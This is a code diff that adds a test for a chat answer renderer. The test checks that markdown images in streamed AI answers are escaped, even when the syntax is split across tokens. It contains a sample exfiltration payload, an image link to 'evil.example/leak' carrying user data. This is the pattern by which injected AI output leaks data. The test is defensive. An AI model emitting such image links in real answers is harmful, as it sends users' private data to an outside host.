@@ -122,3 +122,12 @@ async def test_tool_step_language_is_json_so_results_render_as_code() -> None:
                       TurnEvent.done("ok", [])]
     await render_turn(_events(evs))
     assert ctx.emitter.steps("tool")[0]["language"] == "json"
+
+
+async def test_markdown_images_in_answers_are_defused_even_across_tokens() -> None:
+    ctx = make_context()
+    evs = [TurnEvent.token("Source: !"), TurnEvent.token("[x](http://evil.example/leak?d=70kg)"),
+           TurnEvent.token(" and ![y](http://e/2)"), TurnEvent.done("", [])]
+    await render_turn(_events(evs))
+    text = ctx.emitter.texts()[0]
+    assert "![" not in text and text.count("!\\[") == 2
